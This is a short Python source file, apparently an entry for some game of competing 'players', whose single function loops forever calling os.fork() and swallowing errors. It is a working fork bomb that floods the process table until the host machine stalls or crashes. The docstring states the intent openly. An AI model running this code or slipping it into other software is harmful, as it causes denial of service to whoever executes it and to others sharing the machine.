"""Makes as many copies of itself as it gets."""

import contextlib
import os


def player(position):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
